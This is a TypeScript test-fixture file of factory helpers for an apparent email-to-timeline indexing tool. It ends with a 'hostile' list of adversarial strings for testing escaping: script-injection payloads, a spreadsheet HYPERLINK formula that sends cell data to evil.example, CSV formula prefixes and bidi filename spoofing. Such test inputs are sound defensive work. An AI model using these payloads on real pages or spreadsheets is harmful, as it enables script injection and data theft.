import { createHash } from 'node:crypto';
import type { Citation, Event } from '../../shared/domain/event.ts';
import type { Entity, Link, Mention } from '../../shared/domain/graph.ts';
import type { Message } from '../../shared/domain/message.ts';
import type { Moment } from '../../shared/domain/moment.ts';

export const sha256 = (text: string | Uint8Array): string => createHash('sha256').update(text).digest('hex');

export const aMoment = (edtf: string | null, more: Partial<Moment> = {}): Moment => ({
  by: 'date-header',
  raw: edtf ?? 'some day',
  edtf,
  zone: edtf && /T.*(Z|[+-]\d\d:?\d\d)$/.test(edtf) ? edtf.replace(/^.*T[\d:.]+/, '') : null,
  precision: edtf?.includes('T') ? 'second' : 'day',
  ...more,
});

export const aCitation = (more: Partial<Citation> = {}): Citation => ({
  source: sha256('original'),
  offset: 100,
  length: 2000,
  field: 'text',
  start: 4,
  end: 16,
  exact: 'please reply',
  prefix: 'Now ',
  suffix: ' to me.',
  document: sha256('document'),
  sha256: sha256('document'),
  weaknesses: [],
  title: 'A lonely heart',
  sourceName: 'mail/2011/spam',
  moments: [aMoment('2011-03-09T08:15:30+09:00')],
  ...more,
});

export const anEvent = (id: string, more: Partial<Event> = {}): Event => ({
  kind: 'event',
  id,
  title: { en: `Event ${id}`, ja: `出来事 ${id}` },
  text: {},
  moments: [aMoment('2011-03-09T08:15:30+09:00')],
  part: null,
  citations: [aCitation()],
  note: false,
  ...more,
});

export const aNote = (id: string, more: Partial<Event> = {}): Event =>
  anEvent(id, { citations: [], note: true, ...more });

export const timeline = (...events: Event[]) => ({ events: () => events });

export const aMessage = (name: string, more: Partial<Message> = {}): Message => ({
  kind: 'message',
  id: sha256(name),
  source: sha256(`original of ${name}`),
  offset: 0,
  length: 512,
  sha256: sha256(name),
  type: 'message',
  channel: 'email',
  conversation: null,
  detail: null,
  weaknesses: [],
  subject: `Subject of ${name}`,
  from: [{ name: 'Sakura', address: 'sakura@dates.example' }],
  to: [{ name: '', address: 'you@reader.example' }],
  cc: [],
  messageId: `<${name}@dates.example>`,
  moments: [aMoment('2011-03-09T08:15:30+09:00')],
  text: 'See http://dates.example/x now',
  html: false,
  decoding: null,
  attachments: [],
  ...more,
});

export const anEntity = (id: string, more: Partial<Entity> = {}): Entity => ({
  kind: 'entity',
  id,
  type: 'address',
  normalised: `${id}@dates.example`,
  raw: `${id}@DATES.example`,
  spellings: [`${id}@DATES.example`, `${id}@dates.example`],
  document: sha256('one'),
  range: { field: 'text', start: 1, end: 9 },
  standing: 'accepted',
  reasons: [{ code: 'entity/mentioned', values: { mentions: 3, documents: 2 } }],
  mentions: 3,
  documents: 2,
  merged: [],
  ...more,
});

export const aLink = (id: string, from: string, to: string, more: Partial<Link> = {}): Link => ({
  kind: 'link',
  id,
  type: 'wrote-to',
  from: { type: 'entity', id: from, label: from },
  to: { type: 'entity', id: to, label: to },
  raw: 'you@reader.example',
  normalised: `${from} wrote-to ${to}`,
  range: { field: 'to', start: 0, end: 18 },
  standing: 'accepted',
  reasons: [{ code: 'link/header-to' }],
  count: 1,
  evidence: [{ document: sha256('one'), field: 'to', start: 0, end: 18, raw: 'you@reader.example' }],
  ...more,
});

export const aMention = (id: string, entity: string | null, more: Partial<Mention> = {}): Mention => ({
  kind: 'mention',
  id,
  document: sha256('one'),
  type: 'email',
  range: { field: 'text', start: 1, end: 9 },
  raw: 'a@dates.example',
  normalised: 'a@dates.example',
  standing: 'accepted',
  reasons: [{ code: 'mention/header' }],
  mark: null,
  entity,
  ...more,
});

/** Everything that a writer meets in a hostile text: markup, formulas, turned writing, NUL, halves of pairs, links. */
export const hostile = [
  '</script><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '"quoted", with\r\nbreak',
  'turned \u202Eexe.fdp\u202C \u2066a\u2069 \u200F',
  'nul \0 bell \u0007 vt \u000B',
  'half \uD800 pair \uDC00',
  'http://evil.example/path?a=1 and www.evil.example, me@evil.example, 10.1.2.3',
  '[click](http://evil.example) ![x](http://evil.example/x.png) <b>bold</b> `code` $x$ #1',
  ']]> <!-- --> <![CDATA[ x ]]>',
  '\u2028line\u2029para\uFEFF\uFFFE\uFFFF',
  '絵文字 👩‍👩‍👧 と半角カナ ﾃｽﾄ 〜～',
] as const;

export const drain = <T>(chunks: Generator<string, T>): { text: string; left: T } => {
  let text = '';
  for (;;) {
    const { done, value } = chunks.next();
    if (done) return { text, left: value };
    text += value;
  }
};
